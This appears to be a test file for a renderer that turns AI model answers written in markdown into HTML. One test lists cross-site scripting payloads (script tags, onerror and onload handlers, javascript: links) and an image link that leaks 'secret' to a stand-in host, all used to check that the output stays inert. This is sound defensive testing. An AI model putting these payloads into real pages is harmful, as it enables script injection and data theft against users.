import { answerBlocks, highestHeading, renderBlock } from './answer-markdown';

function render(markdown: string): string {
  const shown = document.createElement('div');
  for (const block of answerBlocks(markdown)) shown.append(renderBlock(block));
  return shown.innerHTML;
}

describe(renderBlock.name, () => {
  it('should render what models write', () => {
    const shown = render(
      '# One\n\n- [x] **done**\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```ts\nlet a = 1 < 2;\n```',
    );
    expect(shown).toContain('<h3>One</h3>');
    expect(shown).toContain('☑');
    expect(shown).toContain('<strong>done</strong>');
    expect(shown).toContain('<td>1</td>');
    expect(shown).toContain('<code data-language="ts">let a = 1 &lt; 2;\n</code>');
  });

  it('should put the first heading of a text below those of the page, whatever a model begins with', () => {
    const blocks = answerBlocks('Words.\n\n## Two\n\n### Three\n\n# One');
    const shown = document.createElement('div');
    for (const block of blocks) shown.append(renderBlock(block, 3, highestHeading(blocks)));
    expect(shown.querySelector('h3')?.textContent).toBe('Two');
    expect(shown.querySelector('h4')?.textContent).toBe('Three');
    expect(shown.querySelectorAll('h3')).toHaveLength(2);
    expect(highestHeading(answerBlocks('Words.'))).toBe(1);
  });

  it('should show tags as they were written', () => {
    expect(render('<answer>\n\nText <b>bold</b>\n\n</answer>')).toContain('&lt;answer&gt;');
    expect(render('Text <b>bold</b>')).toContain('Text &lt;b&gt;bold&lt;/b&gt;');
  });

  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '![secret](https://evil.example/?q=secret)',
    '[x](javascript:alert(1))',
    '[x](data:text/html,hi)',
    '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    '<svg onload=alert(1)><style>*{display:none}</style>',
  ])('should make nothing that acts of %s', (markdown) => {
    const shown = document.createElement('div');
    shown.innerHTML = render(markdown);
    expect(shown.querySelectorAll('script, img, svg, style, iframe, form')).toHaveLength(0);
    for (const element of shown.querySelectorAll('*')) {
      expect(element.getAttributeNames().filter((name) => name.startsWith('on'))).toEqual([]);
      expect(element.getAttribute('href') ?? 'https:').toMatch(/^https?:/);
    }
  });

  it('should open links elsewhere, without telling where from', () => {
    expect(render('[x](https://example.com)')).toBe(
      '<p><a href="https://example.com" target="_blank" rel="noopener noreferrer nofollow">x</a></p>\n',
    );
  });
});

describe(answerBlocks.name, () => {
  it('should leave earlier blocks as they were while text arrives', () => {
    const raws = (markdown: string) => answerBlocks(markdown).map(({ raw }) => raw);
    const text = '# One\n\nTwo two\n\n- three\n- four\n\nFive';
    expect(raws(text).slice(0, -1)).toEqual(raws(`${text} and more\n\nSix`).slice(0, 3));
  });
});
